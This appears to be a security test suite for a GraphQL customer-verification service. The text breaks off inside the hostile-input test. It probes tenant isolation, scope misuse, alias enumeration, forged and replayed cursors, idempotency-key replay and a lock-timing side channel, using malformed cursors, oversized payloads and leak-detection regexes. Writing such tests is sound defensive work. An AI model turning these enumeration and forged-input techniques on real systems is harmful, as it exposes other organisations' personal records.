import "reflect-metadata";
import pg from "pg";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { capturedLog, collect, orgId, startTestHub, testClock, type TestHub } from "./support/hub.js";
import { ok, registerAccounts } from "./support/resellers.js";
import { ADD_CHECK, BY_IDENTIFIER, CUSTOMER_RECORD, OPEN_RECORD, SET_OWNERS, SET_STATUS, openRecord, recordInput, setStatus } from "./support/verification.js";

/**
 * The verification subgraph as an attacker sees it: a valid token of another provider, of an agency
 * without an approval or with one for another account, of a reseller, of an operator with `admin`,
 * and odd scope mixes; every query and mutation through the gateway and straight at the subgraph;
 * `_entities`, aliases and batches; cursors forged or carried from another list or org; idempotency
 * keys replayed by another org; huge and malformed input; IP and date edges; CSV injection; what the
 * log lines hold; and an action whose audit link cannot be written.
 */

const ENTITIES = `query($r: [_Any!]!) { _entities(representations: $r) { ... on Account { id verificationStatus } } }`;
const HISTORY = `query($a: ID!, $first: Int, $after: String, $from: DateTime, $to: DateTime) {
  accessHistory(accountId: $a, first: $first, after: $after, from: $from, to: $to) { edges { cursor node { accountId ip at action } } pageInfo { hasNextPage endCursor } } }`;
const ACCESS = `mutation($in: [AccessEventInput!]!) { recordAccessEvents(input: $in) { accepted duplicates rejected { index field message code } } }`;
const SEEN = `query($ip: String!, $from: DateTime, $to: DateTime) { accountsSeenFromIp(ip: $ip, from: $from, to: $to) { accountId events } }`;
const REQUEST = `mutation($a: ID!, $b: String!) { requestDisclosure(accountId: $a, legalBasis: $b) { request { id status } error { field message code } } }`;
const DECIDE = `mutation($id: ID!, $ok: Boolean!, $r: String!) { decideDisclosure(id: $id, approve: $ok, reason: $r) { request { id status } error { field message code } } }`;
const REVOKE = `mutation($id: ID!, $r: String!) { revokeDisclosure(id: $id, reason: $r) { request { id status } error { field message code } } }`;
const LIST = `query($first: Int, $after: String) { disclosureRequests(first: $first, after: $after) { edges { cursor node { id accountId } } pageInfo { hasNextPage endCursor } } }`;
const TRAIL = `query($first: Int, $after: String, $r: ID) { auditTrail(first: $first, after: $after, recordId: $r) { edges { cursor node { seq action recordId accountId actorOrg detail } } pageInfo { hasNextPage endCursor } } }`;
const CHAIN = `query { verifyAuditChain { ok checked firstBroken } }`;
const DUE = `query($first: Int, $after: String) { dueForReverification(first: $first, after: $after) { edges { cursor node { recordId } } pageInfo { endCursor } } }`;
const HOLD = `mutation($id: ID!, $r: String!) { placeLegalHold(recordId: $id, reason: $r) { record { id } error { field message code } } }`;
const RELEASE = `mutation($id: ID!) { releaseLegalHold(recordId: $id) { record { id } error { field message code } } }`;
const PURGE = `mutation { purgeExpiredRecords { purged accessEventsPurged heldBack } }`;
const GRANT = `mutation($in: ExemptionInput!) { grantExemption(input: $in) { exemption { id } error { field message code } } }`;
const REPORT = `query($asOf: DateTime!) { cipCertificationReport(asOf: $asOf) { provider summary { customers } foreignAccountsNotVerified { accounts { accountId recordId } } unverifiableCases { recordId reason } } }`;
const REPORT_CSV = `query($asOf: DateTime!) { cipCertificationReportCsv(asOf: $asOf) }`;

const BASIS = "18 U.S.C. 2703(d) order, case 26-mj-9931";
const DAY = 86_400_000;
const NO_SUCH_ACCOUNT = "account--00000000-0000-4000-8000-0000000000aa";
const NO_SUCH_RECORD = "customer-record--00000000-0000-4000-8000-0000000000bb";
const b64 = (s: string) => Buffer.from(s).toString("base64url");

/** What a response must never hold: a stack frame, SQL, a file path. */
function expectNoInternals(body: unknown) {
  const text = JSON.stringify(body);
  expect(text).not.toMatch(/\bat [\w.<>]+ \(|node_modules|\/work\/|\.ts:\d+|\.js:\d+/);
  expect(text).not.toMatch(/\b(select|insert|update|delete)\b[^"]{0,40}\b(from|into|set)\b/i);
  expect(text).not.toMatch(/verification\.(customer_record|access_event|audit_trail|disclosure_request)/);
  expect(text).not.toMatch(/stacktrace/i);
}

describe("the verification subgraph under attack", () => {
  const clock = testClock();
  let t: TestHub;
  let db: pg.Client;
  const { log: captured, lines } = capturedLog();

  const P = orgId("atk-provider");
  const Q = orgId("atk-other");
  const A = orgId("atk-agency");
  const B = orgId("atk-agency-b");
  const R = orgId("atk-reseller");
  const O = orgId("atk-operator");
  const F = orgId("atk-audit-fails");
  const tok: Record<string, string> = {};
  let a1: string, a2: string, a3: string, q1: string, f1: string;
  let r1: any, r2: any, q1Record: any;
  let nationalId: string;
  let grantA: string;

  const read = async (token: string, accountId: string, url?: string) => (await ok(t, token, CUSTOMER_RECORD, { a: accountId }, url)).customerRecord;
  const links = async (org: string) => Number((await db.query("select count(*) from verification.audit_trail where org = $1", [org])).rows[0].count);
  const events = async (org: string) => Number((await db.query("select count(*) from verification.access_event where owner = $1", [org])).rows[0].count);

  beforeAll(async () => {
    t = await startTestHub({ LOG_LEVEL: "trace", CIP_RETENTION_DAYS: "1" }, { clock: clock.now, log: captured });
    db = new pg.Client({ connectionString: inject("databaseUrl") });
    await db.connect();
    const provider = ["accounts:read", "accounts:write", "verification:read", "verification:write"];
    tok[P] = await t.token(P, "PROVIDER", provider);
    tok[Q] = await t.token(Q, "PROVIDER", provider);
    tok[F] = await t.token(F, "PROVIDER", provider);
    tok[A] = await t.token(A, "AGENCY", ["verification:disclose"]);
    tok[B] = await t.token(B, "AGENCY", ["verification:disclose", "verification:read", "verification:write"]);
    tok[R] = await t.token(R, "RESELLER", ["accounts:read", "verification:read", "verification:write", "verification:disclose"]);
    tok[O] = await t.token(O, "OPERATOR", ["admin", "accounts:read", "verification:read", "verification:write", "verification:disclose"]);
    [a1, a2, a3] = await registerAccounts(t, tok[P]!, [{ jurisdiction: "FR" }, { jurisdiction: "FR" }, { jurisdiction: "FR" }]);
    [q1] = await registerAccounts(t, tok[Q]!, [{ jurisdiction: "DE" }]);
    [f1] = await registerAccounts(t, tok[F]!, [{ jurisdiction: "FR" }]);
    const input = recordInput(a1!);
    nationalId = (input.customer as any).nationalId;
    r1 = await openRecord(t, tok[P]!, a1!, input);
    r2 = await openRecord(t, tok[P]!, a2!);
    q1Record = await openRecord(t, tok[Q]!, q1!);
    // a3 has no record. A has an approval for a1, B one for a2 only.
    const reqA = (await ok(t, tok[A]!, REQUEST, { a: a1, b: BASIS })).requestDisclosure.request.id;
    grantA = reqA;
    expect((await ok(t, tok[P]!, DECIDE, { id: reqA, ok: true, r: "order checked" })).decideDisclosure.error).toBeNull();
    const reqB = (await ok(t, tok[B]!, REQUEST, { a: a2, b: BASIS })).requestDisclosure.request.id;
    expect((await ok(t, tok[P]!, DECIDE, { id: reqB, ok: true, r: "order checked" })).decideDisclosure.error).toBeNull();
    const now = clock.now().getTime();
    const recorded = await ok(t, tok[P]!, ACCESS, {
      in: [
        { accountId: a1, ip: "198.51.100.7", at: new Date(now - 3000).toISOString(), action: "ACCESS" },
        { accountId: a1, ip: "198.51.100.8", at: new Date(now - 2000).toISOString(), action: "ADMIN" },
        { accountId: a1, ip: "2001:db8::7", at: new Date(now - 1000).toISOString(), action: "ACCESS" },
      ],
    });
    expect(recorded.recordAccessEvents.accepted).toBe(3);
  });
  afterAll(async () => {
    await db?.query("drop trigger if exists attack_audit_fails on verification.audit_trail").catch(() => undefined);
    await db?.query("drop function if exists verification.attack_audit_fails()").catch(() => undefined);
    await db?.end();
    await t?.stop();
  });

  describe("another provider", () => {
    it("reads nothing of P's through any query, at the gateway or straight at the subgraph", async () => {
      for (const url of [undefined, t.subgraphUrl("verification")]) {
        // A record, a record-less account and no account at all answer alike.
        for (const id of [a1!, a3!, NO_SUCH_ACCOUNT]) {
          const res = await t.gql(CUSTOMER_RECORD, { a: id }, tok[Q], url);
          expect(res).toMatchObject({ data: { customerRecord: null } });
          expect(res.errors).toBeUndefined();
        }
        expect((await ok(t, tok[Q]!, BY_IDENTIFIER, { t: "NATIONAL_ID", v: nationalId }, url)).customerRecordsByIdentifier).toEqual([]);
        expect((await ok(t, tok[Q]!, BY_IDENTIFIER, { t: "CARD", v: "4111111111111111" }, url)).customerRecordsByIdentifier.map((r: any) => r.accountId)).toEqual([q1]);
        const errs = [];
        for (const id of [a1!, NO_SUCH_ACCOUNT]) {
          const h = await t.gql(HISTORY, { a: id }, tok[Q], url);
          expect(h.data ?? null).toBeNull();
          errs.push(h.errors!.map((e) => [e.message, e.extensions?.code]));
        }
        expect(errs[0]).toEqual(errs[1]);
        expect(errs[0]![0]![1]).toBe("NOT_FOUND");
        expect((await ok(t, tok[Q]!, SEEN, { ip: "198.51.100.0/24" }, url)).accountsSeenFromIp).toEqual([]);
        const entities = await ok(t, tok[Q]!, ENTITIES, { r: [{ __typename: "Account", id: a1 }, { __typename: "Account", id: a3 }, { __typename: "Account", id: q1 }] }, t.subgraphUrl("verification"));
        expect(entities._entities).toEqual([{ id: a1, verificationStatus: null }, { id: a3, verificationStatus: null }, { id: q1, verificationStatus: "PENDING" }]);
        const list = (await ok(t, tok[Q]!, LIST, { first: 100 }, url)).disclosureRequests.edges;
        expect(list).toEqual([]);
        const trail = (await ok(t, tok[Q]!, TRAIL, { first: 1000 }, url)).auditTrail.edges;
        expect(trail.length).toBeGreaterThan(0);
        expect(JSON.stringify(trail)).not.toContain(r1.id.slice(-36));
        expect(JSON.stringify(trail)).not.toContain(a1!.slice(-36));
        expect((await ok(t, tok[Q]!, TRAIL, { first: 1000, r: r1.id }, url)).auditTrail.edges).toEqual([]);
        const csv = (await ok(t, tok[Q]!, REPORT_CSV, { asOf: clock.now().toISOString() }, url)).cipCertificationReportCsv as string;
        for (const id of [a1!, a2!, r1.id, r2.id]) expect(csv).not.toContain(id.slice(-36));
        const report = (await ok(t, tok[Q]!, REPORT, { asOf: clock.now().toISOString() }, url)).cipCertificationReport;
        expect(report.provider).toBe(Q);
        // The counts are Q's alone: its one record, none of P's.
        expect(report.summary.customers).toBe(1);
        expect(JSON.stringify(report)).not.toContain(a1!.slice(-36));
      }
    });

    it("changes nothing of P's: every mutation answers as for an id that does not exist, and nothing is stored", async () => {
      const before = await db.query("select status, version, legal_hold, beneficial_owners from verification.customer_record where account_id = $1", [a1!.slice(-36)]);
      const linksBefore = await links(P);
      const pairs: [string, Record<string, unknown>, (d: any) => any][] = [
        [OPEN_RECORD, { in: recordInput(a1!) }, (d) => d.openCustomerRecord],
        [OPEN_RECORD, { in: recordInput(a3!) }, (d) => d.openCustomerRecord],
        [ADD_CHECK, { id: r1.id, in: { subject: "customer", method: "DOCUMENTARY", documentType: "passport", documentNumber: "P1", issuingCountry: "FR", result: "PASS" } }, (d) => d.addVerificationCheck],
        [SET_STATUS, { id: r1.id, s: "UNVERIFIED", r: "hijack" }, (d) => d.setVerificationStatus],
        [SET_OWNERS, { id: r1.id, owners: [] }, (d) => d.updateBeneficialOwners],
        [HOLD, { id: r1.id, r: "hold it" }, (d) => d.placeLegalHold],
        [RELEASE, { id: r1.id }, (d) => d.releaseLegalHold],
        [DECIDE, { id: grantA, ok: false, r: "refuse" }, (d) => d.decideDisclosure],
        [REVOKE, { id: grantA, r: "revoke" }, (d) => d.revokeDisclosure],
      ];
      const swap = (vars: Record<string, unknown>) =>
        JSON.parse(JSON.stringify(vars).replaceAll(a1!, NO_SUCH_ACCOUNT).replaceAll(a3!, NO_SUCH_ACCOUNT).replaceAll(r1.id, NO_SUCH_RECORD).replace(grantA, "disclosure-request--00000000-0000-4000-8000-0000000000cc"));
      for (const url of [undefined, t.subgraphUrl("verification")]) {
        for (const [q, vars, pick] of pairs) {
          const theirs = pick(await ok(t, tok[Q]!, q, vars, url));
          const none = pick(await ok(t, tok[Q]!, q, swap(vars), url));
          expect(theirs.record ?? theirs.request ?? null, q.slice(0, 40)).toBeNull();
          expect(theirs.error, q.slice(0, 40)).toEqual(none.error);
          expect(theirs.error.code).toBe("NOT_FOUND");
        }
        const ev = (await ok(t, tok[Q]!, ACCESS, { in: [{ accountId: a1, ip: "203.0.113.9", at: clock.now().toISOString(), action: "ADMIN" }, { accountId: NO_SUCH_ACCOUNT, ip: "203.0.113.9", at: clock.now().toISOString(), action: "ADMIN" }] }, url)).recordAccessEvents;
        expect(ev.accepted).toBe(0);
        expect(ev.rejected[0]).toEqual({ ...ev.rejected[1], index: 0, field: "input[0].accountId", message: ev.rejected[1].message.replace("input[1]", "input[0]") });
      }
      const after = await db.query("select status, version, legal_hold, beneficial_owners from verification.customer_record where account_id = $1", [a1!.slice(-36)]);
      expect(after.rows).toEqual(before.rows);
      expect(await db.query("select count(*)::int as n from verification.customer_record where account_id = $1", [a3!.slice(-36)])).toMatchObject({ rows: [{ n: 0 }] });
      expect(await db.query("select count(*)::int as n from verification.access_event where ip = '203.0.113.9'")).toMatchObject({ rows: [{ n: 0 }] });
      expect((await db.query("select status from verification.disclosure_request where id = $1", [grantA.slice(-36)])).rows[0].status).toBe("APPROVED");
      // Nothing Q tried left a link in P's chain.
      expect(await links(P)).toBe(linksBefore);
    });

    it("over a WebSocket, at the gateway or the subgraph, the same rules hold for queries and mutations", async () => {
      for (const url of [t.gatewayUrl, t.subgraphUrl("verification")]) {
        const client = t.ws(tok[Q]!, url);
        try {
          const readIt = collect<any>(client, CUSTOMER_RECORD, { a: a1 }, 1, 10_000);
          await readIt.done;
          expect(readIt.received, url).toEqual([{ customerRecord: null }]);
          const move = collect<any>(client, SET_STATUS, { id: r1.id, s: "UNVERIFIED", r: "over ws" }, 1, 10_000);
          await move.done;
          // Either refused as a whole (mutations over the socket) or answered as for no record.
          if (move.received.length) expect(move.received[0].setVerificationStatus).toMatchObject({ record: null, error: { code: "NOT_FOUND" } });
          else expect(move.errors.length).toBeGreaterThan(0);
          const aliased = collect<any>(client, `query { ${Array.from({ length: 40 }, (_, i) => `r${i}: customerRecord(accountId: "${a1}") { id }`).join(" ")} }`, {}, 1, 10_000);
          await aliased.done;
          // Refused: at the subgraph with the limit's message; the gateway closes the socket instead (4500).
          expect(aliased.received).toEqual([]);
          expect(aliased.errors.length).toBeGreaterThan(0);
        } finally {
          await client.dispose();
        }
      }
      expect((await read(tok[P]!, a1!)).status).toBe("PENDING");
    });

    it("carries nothing across with aliases, or several operations in one HTTP request", async () => {
      const aliased = `query { ${[a1, a2, a3, NO_SUCH_ACCOUNT].map((id, i) => `r${i}: customerRecord(accountId: "${id}") { id customer { names } }`).join(" ")} }`;
      const res = await t.gql(aliased, {}, tok[Q]);
      expect(res.data).toEqual({ r0: null, r1: null, r2: null, r3: null });
      for (const url of [t.gatewayUrl, t.subgraphUrl("verification")]) {
        const http = await fetch(url, {
          method: "POST",
          headers: { "content-type": "application/json", authorization: `Bearer ${tok[Q]}` },
          body: JSON.stringify([
            { query: CUSTOMER_RECORD, variables: { a: a1 } },
            { query: CUSTOMER_RECORD, variables: { a: q1 } },
          ]),
        });
        const text = await http.text();
        expectNoInternals(text);
        expect(text).not.toContain(r1.id.slice(-36));
        expect(text).not.toContain(r1.customer.names[0]);
        // The batch, where taken, answers Q's own record to Q and P's as none.
        if (!text.includes("errors")) expect(text).toContain(q1Record.id);
      }
    });
  });

  describe("volume", () => {
    it("a query guessing at many accounts through aliases is refused whole, at the gateway and at the subgraph, before any read", async () => {
      const before = await links(P);
      const ids = Array.from({ length: 40 }, (_, i) => (i === 7 ? a1! : `account--00000000-0000-4000-8000-${String(i).padStart(12, "0")}`));
      const aliased = `query { ${ids.map((id, i) => `r${i}: customerRecord(accountId: "${id}") { id }`).join(" ")} }`;
      for (const url of [undefined, t.subgraphUrl("verification")]) {
        const res = await t.gql(aliased, {}, tok[P]!, url);
        expect(res.data ?? null).toBeNull();
        expect(res.errors?.[0]?.message).toMatch(/alias/i);
        expectNoInternals(res);
      }
      // Not one read happened, so none is audited.
      expect(await links(P)).toBe(before);
    });
  });

  describe("odd tokens", () => {
    it("a write-only token reads nothing back, neither directly nor through a mutation's answer", async () => {
      const w = await t.token(P, "PROVIDER", ["verification:write"]);
      for (const url of [undefined, t.subgraphUrl("verification")]) {
        for (const [q, vars] of [
          [CUSTOMER_RECORD, { a: a1 }],
          [HISTORY, { a: a1 }],
          [SEEN, { ip: "198.51.100.7" }],
          [BY_IDENTIFIER, { t: "NATIONAL_ID", v: nationalId }],
          [TRAIL, {}],
          [REPORT_CSV, { asOf: clock.now().toISOString() }],
          [SET_STATUS, { id: r1.id, s: "UNVERIFIED", r: "x" }],
          [HOLD, { id: r1.id, r: "x" }],
          [OPEN_RECORD, { in: recordInput(a3!) }],
        ] as const) {
          const res = await t.gql(q, vars as any, w, url);
          expect(res.errors?.[0]?.extensions?.code, q.slice(0, 50)).toBe("FORBIDDEN");
          expect(JSON.stringify(res.data ?? null)).not.toContain("Test Customer");
        }
        const e = await ok(t, w, ENTITIES, { r: [{ __typename: "Account", id: a1 }] }, t.subgraphUrl("verification"));
        expect(e._entities).toEqual([{ id: a1, verificationStatus: null }]);
      }
    });

    it("verification:disclose on a PROVIDER org, or held by a reseller or an operator with admin, opens nothing", async () => {
      const pd = await t.token(P, "PROVIDER", ["verification:disclose"]);
      const qd = await t.token(Q, "PROVIDER", ["verification:disclose", "verification:read"]);
      for (const token of [pd, qd, tok[R]!, tok[O]!]) {
        for (const url of [undefined, t.subgraphUrl("verification")]) {
          expect(await read(token, a1!, url)).toBeNull();
          const h = await t.gql(HISTORY, { a: a1 }, token, url);
          expect(h.data ?? null).toBeNull();
          expect(["NOT_FOUND", "FORBIDDEN"]).toContain(h.errors?.[0]?.extensions?.code);
          const e = await ok(t, token, ENTITIES, { r: [{ __typename: "Account", id: a1 }] }, t.subgraphUrl("verification"));
          expect(e._entities).toEqual([{ id: a1, verificationStatus: null }]);
          const seen = await t.gql(SEEN, { ip: "198.51.100.0/24" }, token, url);
          expect(JSON.stringify(seen.data ?? null)).not.toContain(a1!.slice(-36));
          const list = await t.gql(LIST, { first: 100 }, token, url);
          expect(JSON.stringify(list.data ?? null)).not.toContain(a1!.slice(-36));
          const trail = await t.gql(TRAIL, { first: 1000 }, token, url);
          expect(JSON.stringify(trail.data ?? null)).not.toContain(a1!.slice(-36));
        }
      }
      // The operator's and the reseller's disclosure requests are refused: only an AGENCY files them.
      for (const token of [tok[R]!, tok[O]!, qd]) {
        const res = await t.gql(REQUEST, { a: a1, b: BASIS }, token);
        expect(res.errors?.[0]?.extensions?.code).toBe("FORBIDDEN");
      }
    });

    it("an agency approved for another account of the same provider reads only that one", async () => {
      for (const url of [undefined, t.subgraphUrl("verification")]) {
        expect(await read(tok[B]!, a1!, url)).toBeNull();
        expect((await read(tok[B]!, a2!, url)).id).toBe(r2.id);
        const h = await t.gql(HISTORY, { a: a1 }, tok[B], url);
        expect(h.errors?.[0]?.extensions?.code).toBe("NOT_FOUND");
        const e = await ok(t, tok[B]!, ENTITIES, { r: [{ __typename: "Account", id: a1 }, { __typename: "Account", id: a2 }] }, t.subgraphUrl("verification"));
        expect(e._entities).toEqual([{ id: a1, verificationStatus: null }, { id: a2, verificationStatus: "PENDING" }]);
        // Its own read/write scopes give it nothing of P's through the provider's paths.
        expect((await ok(t, tok[B]!, BY_IDENTIFIER, { t: "NATIONAL_ID", v: nationalId }, url)).customerRecordsByIdentifier).toEqual([]);
        expect((await ok(t, tok[B]!, SEEN, { ip: "198.51.100.0/24" }, url)).accountsSeenFromIp).toEqual([]);
        expect((await ok(t, tok[B]!, DUE, { first: 10 }, url)).dueForReverification.edges).toEqual([]);
        const change = (await ok(t, tok[B]!, SET_STATUS, { id: r2.id, s: "UNVERIFIED", r: "x" }, url)).setVerificationStatus;
        expect(change).toMatchObject({ record: null, error: { code: "NOT_FOUND" } });
        const ev = (await ok(t, tok[B]!, ACCESS, { in: [{ accountId: a2, ip: "203.0.113.10", at: clock.now().toISOString(), action: "ACCESS" }] }, url)).recordAccessEvents;
        expect(ev.accepted).toBe(0);
      }
      // An agency cannot decide or revoke its own request, whatever its scopes.
      const own = await t.gql(DECIDE, { id: grantA, ok: true, r: "self-approved" }, await t.token(A, "AGENCY", ["verification:disclose", "verification:write"]));
      expect(own.data.decideDisclosure).toMatchObject({ request: null, error: { code: "NOT_FOUND" } });
      // The approved agency reads a1 and its history; the reads are links in P's chain naming it.
      const before = await links(P);
      expect((await read(tok[A]!, a1!)).id).toBe(r1.id);
      expect((await ok(t, tok[A]!, HISTORY, { a: a1 })).accessHistory.edges).toHaveLength(3);
      expect(await links(P)).toBe(before + 2);
    });
  });

  describe("side channels", () => {
    /**
     * Whether a lookup reads the disclosure grants: with the table locked by the test, a request that
     * reads it waits on the lock (and the test sees the waiter), one that does not answers. The same
     * difference is what a stopwatch would show an agency about whether an account has a record.
     */
    async function readsGrants(query: string, vars: Record<string, unknown>, token: string, url?: string): Promise<boolean> {
      const locker = new pg.Client({ connectionString: inject("databaseUrl") });
      await locker.connect();
      let answered = false;
      let answer: Promise<unknown> | undefined;
      try {
        await locker.query("begin");
        await locker.query("lock table verification.disclosure_request in access exclusive mode");
        answer = t.gql(query, vars, token, url).finally(() => (answered = true));
        for (;;) {
          if (answered) return false;
          const { rows } = await locker.query(
            `select count(*)::int as n from pg_locks l join pg_stat_activity a on a.pid = l.pid
              where l.relation = 'verification.disclosure_request'::regclass and not l.granted and a.pid <> pg_backend_pid()`,
          );
          if (rows[0].n > 0) return true;
          await new Promise((r) => setTimeout(r, 10));
        }
      } finally {
        await locker.query("rollback").catch(() => undefined);
        await answer;
        await locker.end();
      }
    }

    it("an agency without an approval cannot tell an account with a record from one without, by the work done", async () => {
      const sub = t.subgraphUrl("verification");
      for (const [query, vars, url] of [
        [CUSTOMER_RECORD, (id: string) => ({ a: id }), undefined],
        [ENTITIES, (id: string) => ({ r: [{ __typename: "Account", id }] }), sub],
      ] as const) {
        const withRecord = await readsGrants(query, vars(a1!), tok[B]!, url);
        const without = await readsGrants(query, vars(a3!), tok[B]!, url);
        const none = await readsGrants(query, vars(NO_SUCH_ACCOUNT), tok[B]!, url);
        expect([withRecord, without, none], query.slice(0, 40)).toEqual([withRecord, withRecord, withRecord]);
      }
      // The access history of an account with a record and of one without (both exist: that much a
      // disclosure request tells an agency anyway).
      const history = await readsGrants(HISTORY, { a: a1 }, tok[B]!);
      expect(await readsGrants(HISTORY, { a: a3 }, tok[B]!)).toBe(history);
    });
  });

  describe("cursors", () => {
    it("a cursor from another list, another org or forged is refused as input, never an internal error", async () => {
      const page = (await ok(t, tok[P]!, HISTORY, { a: a1, first: 1 })).accessHistory;
      expect(page.pageInfo.hasNextPage).toBe(true);
      // P's history cursor used by Q on Q's own account: a position only, it yields only Q's rows.
      const carried = await ok(t, tok[Q]!, HISTORY, { a: q1, after: page.pageInfo.endCursor });
      expect(carried.accessHistory.edges).toEqual([]);
      // Cursors of other lists, and forged ones, into each list.
      const disclosureCursor = (await ok(t, tok[P]!, LIST, { first: 1 })).disclosureRequests.pageInfo.endCursor;
      const trailCursor = (await ok(t, tok[P]!, TRAIL, { first: 1 })).auditTrail.pageInfo.endCursor;
      expect(disclosureCursor && trailCursor).toBeTruthy();
      const forged = [
        disclosureCursor,
        trailCursor,
        page.pageInfo.endCursor,
        "",
        "!!!",
        "x".repeat(10_000),
        b64("ae:9223372036854775807|1.2.3.4|ACCESS"),
        b64("ae:-9223372036854775808|1.2.3.4|ACCESS"),
        b64("ae:9999999999999999999|1.2.3.4|ADMIN"),
        b64("ae:1|fe80::1%eth0|ACCESS"),
        b64("ae:1|::ffff:1.2.3.4|DELETE"),
        b64("due:2020-01-01T00:00:00.000Z|------------------------------------"),
        b64("due:2020-01-01T00:00:00.000Z|zzzzzzzz-zzzz-zzzz-zzzz-zzzzzzzzzzzz"),
        b64("due:-271821-04-20T00:00:00.000Z|00000000-0000-4000-8000-000000000000"),
        b64("due:+275760-09-13T00:00:00.000Z|00000000-0000-4000-8000-000000000000"),
        b64("due:1|00000000-0000-4000-8000-000000000000"),
        b64("audit:-1"),
        b64("audit:99999999999999999999999"),
        b64("disclosure:1e400"),
        b64("disclosure:-5"),
        b64("\ud800"),
      ];
      const lists: [string, Record<string, unknown>, string][] = [
        [HISTORY, { a: a1 }, "accessHistory"],
        [LIST, {}, "disclosureRequests"],
        [TRAIL, {}, "auditTrail"],
        [DUE, {}, "dueForReverification"],
      ];
      for (const [q, vars, name] of lists) {
        for (const after of forged) {
          const res = await t.gql(q, { ...vars, after }, tok[P]!);
          expectNoInternals(res);
          const code = res.errors?.[0]?.extensions?.code;
          // Either a page (a cursor of this very list) or an input error naming `after`: never a 500.
          if (res.errors) {
            expect(code, `${name} after=${String(after).slice(0, 60)} ${JSON.stringify(res.errors)}`).toBe("BAD_USER_INPUT");
            expect(res.errors[0]!.message).toMatch(/after/);
          } else {
            expect(res.data[name], `${name} after=${String(after).slice(0, 60)}`).toBeTruthy();
          }
        }
      }
    });

    it("a page size out of range is refused naming `first`, on every list", async () => {
      for (const [q, vars] of [
        [HISTORY, { a: a1 }],
        [LIST, {}],
        [TRAIL, {}],
        [DUE, {}],
      ] as const) {
        for (const first of [0, -1, 1_000_001, 2 ** 31 - 1]) {
          const res = await t.gql(q, { ...vars, first }, tok[P]!);
          expectNoInternals(res);
          expect(res.errors?.[0]?.extensions?.code, `${q.slice(0, 30)} first=${first}`).toBe("BAD_USER_INPUT");
          expect(res.errors![0]!.message).toMatch(/^first: /);
        }
      }
    });

    it("an audit-trail or disclosure cursor of P's, replayed by Q, shows nothing of P's", async () => {
      const trail = (await ok(t, tok[P]!, TRAIL, { first: 1 })).auditTrail.pageInfo.endCursor;
      const list = (await ok(t, tok[P]!, LIST, { first: 1 })).disclosureRequests.pageInfo.endCursor;
      const res1 = (await ok(t, tok[Q]!, TRAIL, { first: 1000, after: trail })).auditTrail.edges;
      for (const e of res1) expect(e.node.accountId === null || e.node.accountId === q1 || !e.node.accountId.includes(a1!.slice(-36))).toBe(true);
      expect(JSON.stringify(res1)).not.toContain(r1.id.slice(-36));
      const res2 = (await ok(t, tok[Q]!, LIST, { first: 100, after: list })).disclosureRequests.edges;
      expect(res2).toEqual([]);
    });
  });

  describe("idempotency keys", () => {
    it("a key replayed by another org runs as that org's own request and returns nothing of the first", async () => {
      const key = `atk-${Date.now()}`;
      const body = JSON.stringify({ query: OPEN_RECORD, variables: { in: recordInput(a3!) } });
      const post = async (token: string) => {
        const res = await fetch(t.gatewayUrl, { method: "POST", headers: { "content-type": "application/json", authorization: `Bearer ${token}`, "idempotency-key": key }, body });
        return (await res.json()) as any;
      };
      const first = await post(tok[P]!);
      expect(first.data.openCustomerRecord.error).toBeNull();
      const replay = await post(tok[Q]!);
      expect(replay.data?.openCustomerRecord?.record ?? null).toBeNull();
      expect(replay.data.openCustomerRecord.error.code).toBe("NOT_FOUND");
      expect(JSON.stringify(replay)).not.toContain(first.data.openCustomerRecord.record.id);
      // P's own replay returns P's first answer, and nothing more is stored.
      const again = await post(tok[P]!);
      expect(again.data.openCustomerRecord.record.id).toBe(first.data.openCustomerRecord.record.id);
      expect((await db.query("select count(*)::int as n from verification.customer_record where account_id = $1", [a3!.slice(-36)])).rows[0].n).toBe(1);
    });
  });

  describe("idempotency keys and scopes", () => {
    it("a key replayed by a token of the same org without the scopes the mutation needs gets no stored answer", async () => {
      const key = `atk-scope-${Date.now()}`;
      const body = JSON.stringify({ query: SET_STATUS, variables: { id: r1.id, s: "UNVERIFIED", r: "documents requested" } });
      const post = async (token: string) => {
        const res = await fetch(t.gatewayUrl, { method: "POST", headers: { "content-type": "application/json", authorization: `Bearer ${token}`, "idempotency-key": key }, body });
        return { status: res.status, text: await res.text() };
      };
      const first = await post(tok[P]!);
      expect(JSON.parse(first.text).data.setVerificationStatus.error).toBeNull();
      expect(first.text).toContain(r1.customer.names[0]);
      for (const scopes of [["verification:write"], ["accounts:read"], ["verification:disclose"]]) {
        const replay = await post(await t.token(P, "PROVIDER", scopes));
        expect(replay.text, scopes.join(" ")).not.toContain(r1.customer.names[0]);
        expect(replay.text).not.toContain(nationalId);
      }
      // The full token's own retry still gets its first answer.
      expect((await post(tok[P]!)).text).toBe(first.text);
    });

    it("the answer kept for a retry holds no personal value in clear: it is sealed like the record", async () => {
      const [fresh] = await registerAccounts(t, tok[P]!, [{ jurisdiction: "FR" }]);
      const input = recordInput(fresh!);
      const key = `atk-store-${Date.now()}`;
      const post = async () => {
        const res = await fetch(t.gatewayUrl, {
          method: "POST",
          headers: { "content-type": "application/json", authorization: `Bearer ${tok[P]}`, "idempotency-key": key },
          body: JSON.stringify({ query: OPEN_RECORD, variables: { in: input } }),
        });
        return res.text();
      };
      const first = await post();
      const name = (input.customer as any).names[0] as string;
      expect(first).toContain(name);
      const stored = await db.query("select * from hub.idempotency where org = $1 and key = $2", [P, key]);
      expect(stored.rows.length).toBeGreaterThan(0);
      const dump = JSON.stringify(stored.rows);
      for (const planted of [name, (input.customer as any).nationalId, (input.emails as string[])[0]!, "4111"]) expect(dump, planted).not.toContain(planted);
      // And the retry still gets the first answer, opened again.
      expect(await post()).toBe(first);
    });
  });

  describe("hostile input", () => {
    it("refuses huge inputs before doing any work, storing nothing", async () => {
      const before = await events(P);
      const big = Array.from({ length: 10_001 }, () => ({ accountId: a1, ip: "198.51.100.9", at: clock.now().toISOString(), action: "ACCESS" }));
      const res = await t.gql(ACCESS, { in: big }, tok[P]!);
      expectNoInternals(res);
      expect(res.data ?? null).toBeNull();
      expect(["BAD_USER_INPUT", "BAD_REQUEST", "PAYLOAD_TOO_LARGE"]).toContain(res.errors?.[0]?.extensions?.code ?? (res.status === 413 ? "PAYLOAD_TOO_LARGE" : undefined));
      expect(await events(P)).toBe(before);
      const huge = recordInput(a3!, { customer: { kind: "INDIVIDUAL", names: ["x".repeat(100_000)], addresses: [{ lines: ["1"], city: "Lyon", country: "FR" }], citizenship: ["FR"] } });
      const open = await t.gql(OPEN_RECORD, { in: { ...huge, accountId: a2 } }, tok[P]!);
      expectNoInternals(open);
      const err = open.data?.openCustomerRecord?.error ?? open.errors?.[0];
